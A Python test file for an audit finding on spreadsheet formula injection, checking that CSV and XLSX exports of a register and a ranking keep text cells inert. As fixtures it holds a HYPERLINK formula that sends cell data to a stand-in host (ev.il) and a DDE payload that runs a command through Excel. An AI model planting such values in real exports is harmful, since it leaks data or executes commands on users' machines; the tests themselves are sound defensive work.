"""Finding 7: a text cell that starts with = + - @ (or a tab or CR) is a live formula for
whoever opens the export in Excel. Every exported text cell must stay text: in CSV (the
ranking, the rejected rows of a register), in XLSX (the ranking, the bulletin's workbook)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import yaml
from openpyxl import load_workbook

from collectors.inventory import import_file, load_rules, write_report
from wall.core.plan import load_plan
from wall.core.plan.loader import DEFAULT_PLAN_PATH

EVIL = '=HYPERLINK("http://ev.il/?"&B2,"详情")'
LIVE = ("=", "+", "-", "@", "\t", "\r")


def _live_csv_cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row if c[:1] in LIVE]


def _formulas(data: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{cell.coordinate}: {cell.value}" for ws in book.worksheets
            for row in ws.iter_rows() for cell in row if cell.data_type == "f"]  # fmt: skip


def test_a_rejected_row_holding_a_formula_is_text_in_the_report(tmp_path):
    register = tmp_path / "register.csv"
    register.write_text(
        "业务系统名称,所属部门,所属地市,迁移状态,上云时间\n"
        f'"{EVIL.replace(chr(34), chr(34) * 2)}",公安局,香港,已上云,2020-05-01\n'
        "+cmd|' /C calc'!A0,公安局,梅州,搁置,\n",
        encoding="utf-8",
    )
    result = import_file(register, load_plan(), load_rules())
    assert len(result.rejected) == 2
    report = write_report(result, tmp_path / "rejected.csv")
    text = report.read_text(encoding="utf-8-sig")
    assert "HYPERLINK" in text and _live_csv_cells(text) == []


def test_the_ranking_export_keeps_names_as_text(tmp_path):
    from wall.core.settings import Settings
    from wall.store import open_store
    from wall.store.samples import Sample
    from wall.web.app import create_app

    plan = yaml.safe_load(DEFAULT_PLAN_PATH.read_text(encoding="utf-8"))
    for node in plan["nodes"]:
        if node["id"] == "city-meizhou":
            node["name"] = EVIL
        if node["id"] == "city-heyuan":
            node["name"] = "-河源政务云节点"
    plan_path = tmp_path / "plan.yaml"
    plan_path.write_text(yaml.safe_dump(plan, allow_unicode=True), encoding="utf-8")
    store = open_store(f"sqlite:///{tmp_path}/m.db")
    now = datetime.now(UTC)
    store.write([Sample.make("usage", {"node": n}, {"cpu_util": 0.5}, now)
                 for n in ("city-meizhou", "city-heyuan")])  # fmt: skip
    store.close()
    settings = Settings(data_dir=tmp_path, store_url=f"sqlite:///{tmp_path}/m.db", demo=True,
                        plan_path=plan_path)  # fmt: skip
    c = create_app(settings).server.test_client()
    xlsx = c.get("/export/ranking.xlsx?field=cpu_util")
    assert xlsx.status_code == 200
    book = load_workbook(io.BytesIO(xlsx.data))
    names = [cell.value for row in book.active.iter_rows() for cell in row]
    assert EVIL in names  # shown as the text it is …
    assert _formulas(xlsx.data) == []  # … never run
    text = c.get("/export/ranking.csv?field=cpu_util").data.decode("utf-8-sig")
    assert "HYPERLINK" in text and _live_csv_cells(text) == []
